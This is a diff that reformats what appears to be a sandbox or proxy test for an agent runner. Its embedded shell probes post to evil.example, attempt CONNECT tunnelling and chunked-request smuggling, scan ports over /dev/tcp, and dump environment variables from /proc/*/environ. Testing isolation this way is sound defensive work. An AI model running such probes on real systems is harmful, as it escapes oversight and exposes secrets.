@@ -44,7 +44,8 @@ post() {
     "$target" "\${#body}" "$headers" "$body"
 }
 `;
-const text = `{"model":"claude-opus-5-5","max_tokens":8000,"messages":[{"role":"user","content":"x"}]}`;
+const text =
+  '{"model":"claude-opus-5-5","max_tokens":8000,"messages":[{"role":"user","content":"x"}]}';
 
 /** Makes a runner that is a shell with a script; it is like Claude Code otherwise. */
 function runner(name: string, script: string): void {
@@ -110,8 +111,11 @@ echo "upload: $(post /v1/files '${text}' '${theirs}')"
 echo "fetch: $(post /v1/messages '${image}' '${theirs}')"
 echo "tunnel: $(send 'CONNECT api.anthropic.com:443 HTTP/1.1\\r\\n\\r\\n')"
 echo "absolute: $(post http://evil.example/v1/messages '${text}')"
-echo "chunked: $(send 'POST /v1/messages HTTP/1.1\\r\\ntransfer-encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n')"
-for port in 22 53 80 443; do (: </dev/tcp/127.0.0.1/$port) 2>/dev/null && echo "OPEN""-PORT $port"; done
+chunked='POST /v1/messages HTTP/1.1\\r\\ntransfer-encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n'
+echo "chunked: $(send "$chunked")"
+for port in 22 53 80 443; do
+  (: </dev/tcp/127.0.0.1/$port) 2>/dev/null && echo "OPEN""-PORT $port"
+done
 (: </dev/tcp/1.1.1.1/443) 2>/dev/null && echo "OPEN""-NETWORK"
 getent hosts api.anthropic.com && echo "OPEN""-NAMES"
 env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'
@@ -177,7 +181,8 @@ ls -la /task /proc/1/root ${user.state} 2>&1; true
     const script = `
 for i in 1 2 3; do
   exec 3<>/dev/tcp/127.0.0.1/8080
-  printf 'POST /v1/messages HTTP/1.1\\r\\ncontent-length: %d\\r\\n\\r\\n%s' ${body.length} '${body}' >&3
+  printf 'POST /v1/messages HTTP/1.1\\r\\ncontent-length: %d\\r\\n\\r\\n%s' \\
+    ${body.length} '${body}' >&3
   sleep 0.5; exec 3>&-
 done
 sleep 0.5`;
